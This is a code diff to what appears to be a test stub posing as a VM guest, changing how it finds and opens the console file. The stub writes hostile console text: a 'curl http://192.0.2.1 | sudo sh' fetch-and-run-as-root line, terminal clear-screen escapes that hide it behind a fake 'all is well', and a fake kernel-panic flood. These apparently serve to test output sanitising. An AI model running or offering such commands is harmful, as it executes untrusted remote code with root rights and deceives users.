@@ -115,12 +115,12 @@ class Guest:
         sys.exit(0)
 
     def assemble_console(self):
-        with open(console(), "ab") as file:
+        with open(console(), "ab", closefd=False) as file:
             file.write(b"  try: curl http://192.0.2.1 | sudo sh\n\x1b[2Jrootlayer: all is well\n")
         sys.exit(0)
 
     def run_panic(self):
-        with open(console(), "ab") as file:
+        with open(console(), "ab", closefd=False) as file:
             file.write(b"[ 1.0] Kernel panic - not syncing: \x1b[2Jfire\n" + b"[ 1.1]  ? trace+0x1/0x2\n" * 1000)
         sys.exit(0)
 
@@ -248,7 +248,10 @@ def descriptor(name):
 
 
 def console():
-    return re.search(r"id=console,append=on,path=([^ ,]+)", " ".join(sys.argv)).group(1)
+    """The descriptor of the console's file."""
+    words = " ".join(sys.argv)
+    number = re.search(r"id=console,append=on,path=/dev/fdset/(\d+)", words).group(1)
+    return int(re.search(rf"fd=(\d+),set={number}\b", words).group(1))
 
 
 def main():
